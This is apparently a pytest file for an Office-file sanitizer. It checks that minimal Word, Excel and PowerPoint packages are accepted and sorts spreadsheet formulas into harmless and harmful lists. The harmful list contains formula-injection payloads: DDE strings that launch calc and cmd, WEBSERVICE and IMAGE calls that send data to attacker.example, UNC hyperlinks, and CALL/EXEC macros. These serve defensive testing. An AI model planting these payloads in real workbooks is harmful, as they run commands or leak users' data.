"""Office packages before the judge: what is sane passes, and one thing put back is refused."""

import pytest

from policies.model import Policy
from sanitizers.verify.judge import judge
from sanitizers.verify.ooxml.formulas import is_harmless
from tests.sanitizers.ooxml.forge import docx, pptx, xlsx

POLICY = Policy(name="test")
PREFIX = "application/vnd.openxmlformats-officedocument."
DOCX, XLSX, PPTX = (
    PREFIX + name for name in ("wordprocessingml.document", "spreadsheetml.sheet", "presentationml.presentation")
)


@pytest.mark.parametrize(("package", "media_type"), [(docx(), DOCX), (xlsx(), XLSX), (pptx(), PPTX)])
def test_the_least_package_is_accepted(package, media_type):
    opinion = judge(package.build(), media_type, POLICY)

    assert opinion.accepted, opinion.where


HARMLESS = [
    "SUM(A1:B2)+1",
    "SUM(Sheet2!$A$1:$B$2,'シート 1'!A1)",
    "'売上 2024'!$A$1",
    "IF(A1=\"a|b\",\"[x]\",'It''s'!B2)",
    "Table1[[#This Row],[金額]]*1.1",
    "SUM(Table1[金額])",
    "_xlfn.XLOOKUP(A1,B:B,C:C)",
    "_xlfn._xlws.FILTER(A1:A9,B1:B9>0)",
    "-A1%^2",
    "A1#",
    "@A:A",
    "#REF!+1",
    "Sheet1!#REF!",
    "{1,2;3,4}",
    "_xlfn.LAMBDA(_xlpm.x,_xlpm.x+1)(5)",
    'HYPERLINK("https://example.jp/","a")',
    "'Sheet1:Sheet3'!A1",
    "Sheet1:Sheet3!A1",
    "合計 内訳",
    "OFFSET(A1,0,0,COUNTA(A:A),1)",
    "1E+5",
    "A1 B1",
    '"a""b"',
]


@pytest.mark.parametrize("text", HARMLESS)
def test_a_formula_that_computes_from_the_workbook_is_harmless(text):
    assert is_harmless(text)


HARMFUL = [
    "cmd|'/k calc'!A0",
    "[1]Sheet1!A1",
    "'[1]Sheet 1'!A1",
    "'C:\\a\\[b.xlsx]c'!A1",
    "'\\\\attacker.example\\a\\[b.xlsx]c'!A1",
    "[1]!fn(1)",
    "Book.xlam!fn(1)",
    'WEBSERVICE("http://attacker.example/"&A1)',
    "_xlfn.WEBSERVICE(A1)",
    "webservice (A1)",
    'SUM(1)+FILTERXML(A1,"a")',
    'CALL("urlmon","a","J")',
    'REGISTER.ID("a","b")',
    'EXEC("calc")',
    'RTD("a",,"b")',
    'HYPERLINK("file://attacker.example/a","a")',
    'HYPERLINK("\\\\attacker.example\\a")',
    "HYPERLINK(A1)",
    'HYPERLINK("http://\\\\attacker.example\\a")',
    'CUBEVALUE("a","b")',
    'IMAGE("http://attacker.example/a.png")',
    '_xlfn.IMAGE("http://attacker.example/a.png")',
    "MyMacro()",
    "A1(1)",
    "Sheet1!SUM(1)",
    "EVILSUM(1)",
    "SUM.EVIL(1)",
    "GET.WORKSPACE(1)",
    "MSEXCEL|'\\..\\..\\calc.exe'!A1",
    'DDE("cmd","/c calc","a")',
    "'a'|'b'!c",
]


@pytest.mark.parametrize("text", HARMFUL)
def test_a_formula_that_reaches_out_is_harmful(text):
    assert not is_harmless(text)
